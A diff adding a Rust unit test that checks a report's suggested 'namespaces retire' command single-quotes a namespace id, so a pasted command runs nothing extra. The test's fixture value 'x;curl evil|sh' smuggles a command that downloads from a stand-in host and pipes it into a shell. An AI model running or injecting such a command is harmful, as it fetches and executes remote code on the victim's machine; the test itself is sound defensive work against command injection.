@@ -148,6 +148,22 @@ fn a_namespace_that_is_new_is_not_stale_yet() {
     assert_eq!(report.totals.count.share(), None);
 }
 
+#[test]
+fn a_command_that_is_to_be_copied_runs_nothing_else() {
+    let points = [point(1, 1, 10)];
+    let gone = ReportRow {
+        namespace_id: "x;curl evil|sh".to_owned(),
+        missing_since: Some(NOW),
+        ..row(1, &points)
+    };
+    let report = report(&[gone], &points);
+    let why = &report.attention[0].why;
+    assert!(
+        why.ends_with("`durable-inventory namespaces retire 'x;curl evil|sh'`"),
+        "{why}"
+    );
+}
+
 proptest! {
     /// Whatever the namespaces went through, the totals are the sums of what is shown.
     #[test]
